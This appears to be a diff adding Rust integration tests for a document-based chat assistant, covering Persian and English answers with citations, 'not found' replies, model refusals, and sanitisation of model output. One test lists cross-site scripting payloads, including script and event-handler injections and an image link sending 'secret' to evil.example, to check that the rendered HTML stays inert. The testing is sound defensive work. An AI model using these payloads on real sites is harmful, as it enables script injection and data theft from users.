@@ -1,0 +1,117 @@
+//! Answers from documents, with sources; and model output that may not do anything but be read.
+
+use std::time::Duration;
+
+use domain::chat::{AnswerFailure, EngineName, MessageState};
+
+use crate::kit::{FakeModel, Options, Script, TestApp};
+
+const LEAVE: &str = "# آیین‌نامهٔ مرخصی\n\n## مرخصی استعلاجی\n\nمرخصی استعلاجی بیش از سه روز نیازمند گواهی پزشک معتمد است که باید ظرف ۴۸ ساعت به واحد منابع انسانی برسد.\n\n## مرخصی استحقاقی\n\nهر کارمند سالانه ۲۶ روز مرخصی استحقاقی دارد و می‌تواند ۹ روز آن را ذخیره کند.\n";
+const POLICY: &str = "# Travel policy\n\nEmployees must book flights at least fourteen days before departure.\n\nMeals are refunded up to 40 dollars a day against receipts.\n";
+
+#[tokio::test]
+async fn a_persian_question_is_answered_from_the_persian_document_whatever_its_spelling() {
+    let app = TestApp::start().await;
+    let sara = app.person("09125555001").await;
+    sara.upload("leave.md", LEAVE).await;
+    sara.upload("travel.md", POLICY).await;
+    for question in ["مرخصی استعلاجی چه گواهی میخواهد؟", "براي مرخصي استعلاجي چه گواهي لازم است؟"] {
+        let (_, answer) = sara.ask(question).await;
+        assert_eq!((answer.state, answer.engine), (MessageState::Complete, Some(EngineName::Extractive)));
+        assert!(answer.text.contains("۴۸ ساعت") && answer.text.contains("[1]"), "{question}: {}", answer.text);
+        assert_eq!(answer.sources[0].document_name, "leave.md");
+        assert!(answer.blocks.concat().contains("data-source=\"1\""), "{:?}", answer.blocks);
+    }
+    let (_, answer) = sara.ask("How many days before departure must flights be booked?").await;
+    assert!(answer.text.contains("fourteen days"), "{}", answer.text);
+    assert_eq!(answer.sources[0].document_name, "travel.md");
+}
+
+#[tokio::test]
+async fn what_is_not_in_the_documents_is_said_to_be_not_there() {
+    let app = TestApp::start().await;
+    let sara = app.person("09125555002").await;
+    let (_, empty) = sara.ask("پایتخت مغولستان کجاست؟").await;
+    sara.upload("leave.md", LEAVE).await;
+    let (_, answer) = sara.ask("پایتخت مغولستان کجاست؟").await;
+    assert_eq!(answer.state, MessageState::Complete);
+    assert!(answer.text.contains("پیدا نشد"), "{}", answer.text);
+    assert_ne!(empty.text, answer.text, "an empty library is told apart");
+}
+
+#[tokio::test]
+async fn a_model_writes_from_the_passages_and_its_citations_lead_to_them() {
+    let model = FakeModel::start(Script::words("گواهی پزشک [۱] لازم است [1, 99].", Duration::from_millis(2))).await;
+    let app = TestApp::start_with(Options { model: Some(model.clone()), ..Options::default() }).await;
+    let sara = app.person("09125555003").await;
+    sara.upload("leave.md", LEAVE).await;
+    let (_, answer) = sara.ask("مرخصی استعلاجی چه گواهی می‌خواهد؟").await;
+    assert_eq!(answer.engine, Some(EngineName::Model));
+    assert!(answer.text.contains("[1]") && !answer.text.contains("99"), "{}", answer.text);
+    assert_eq!(answer.sources.len(), 1, "only what is cited is kept");
+    let prompt = model.prompts().pop().unwrap().to_string();
+    assert!(prompt.contains("۴۸ ساعت"), "the passage was given to the model");
+}
+
+#[tokio::test]
+async fn a_model_that_refuses_or_breaks_off_leaves_a_truthful_state_and_what_came() {
+    let model = FakeModel::start(Script::Refuse(400)).await;
+    let app = TestApp::start_with(Options { model: Some(model.clone()), ..Options::default() }).await;
+    let sara = app.person("09125555004").await;
+    sara.upload("leave.md", LEAVE).await;
+    let (_, answer) = sara.ask("مرخصی استعلاجی چه گواهی می‌خواهد؟").await;
+    assert_eq!((answer.state, answer.failure), (MessageState::Failed, Some(AnswerFailure::EngineRefused)));
+    model.next(Script::BreakOff { pieces: vec!["نیمی از ".into(), "پاسخ".into()] });
+    let (_, answer) = sara.ask("مرخصی استعلاجی چه گواهی می‌خواهد؟").await;
+    assert_eq!((answer.state, answer.failure), (MessageState::Failed, Some(AnswerFailure::EngineBrokeOff)));
+    assert!(answer.text.contains("نیمی از"), "{}", answer.text);
+}
+
+#[tokio::test]
+async fn m01_m02_m03_model_output_is_text_whatever_it_says() {
+    let hostile = [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "[x](javascript:alert(1))",
+        "[x](data:text/html,<script>alert(1)</script>)",
+        "![](https://evil.example/?d=secret)",
+        "<svg/onload=alert(1)>",
+        "<a href=\"https://evil.example\" style=\"position:fixed\">x</a>",
+        "<iframe src=https://evil.example></iframe>",
+        "`<b>`\n\n```html\n<script>alert(1)</script>\n```",
+        "<style>@import url(https://evil.example)</style>",
+    ];
+    let model = FakeModel::start(Script::words(hostile[0], Duration::ZERO)).await;
+    let app = TestApp::start_with(Options { model: Some(model.clone()), ..Options::default() }).await;
+    let sara = app.person("09125555005").await;
+    sara.upload("leave.md", LEAVE).await;
+    for text in hostile {
+        let pieces = text.chars().map(String::from).collect();
+        model.next(Script::Say { pieces, apart: Duration::ZERO });
+        let mut line = sara.line().await;
+        let (conversation, answer) = line.ask(None, "مرخصی استعلاجی چه گواهی می‌خواهد؟").await;
+        let ended = line.follow(answer.run.unwrap(), answer.blocks).await;
+        let page = sara.page(&format!("/chat/{conversation}")).await.body;
+        let stored = sara.open(conversation).await.messages.pop().unwrap().blocks;
+        assert_eq!(ended.blocks, stored, "streamed and stored differ for {text}");
+        assert_harmless(&stored.concat());
+        assert!(!page.contains("<script>alert") && !page.contains("<img src") && !page.contains("<iframe"), "{text}");
+    }
+}
+
+/// Only tags and attributes that can do nothing but show text.
+fn assert_harmless(html: &str) {
+    const TAGS: [&str; 25] = [
+        "a", "p", "br", "hr", "em", "strong", "del", "code", "pre", "ul", "ol", "li", "h3", "h4", "h5", "blockquote", "table", "thead",
+        "tbody", "tr", "th", "td", "bdi", "span", "div",
+    ];
+    for tag in html.split('<').skip(1) {
+        let (tag, _) = tag.split_once('>').expect("a tag ends");
+        let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap();
+        assert!(TAGS.contains(&name), "<{tag}> in {html}");
+        assert!(!tag.contains(" on") && !tag.contains("style=") && !tag.contains(" src"), "<{tag}> in {html}");
+        if let Some(href) = tag.split("href=\"").nth(1) {
+            assert!(["#", "https://", "http://", "mailto:"].iter().any(|start| href.starts_with(start)), "<{tag}> in {html}");
+        }
+    }
+}
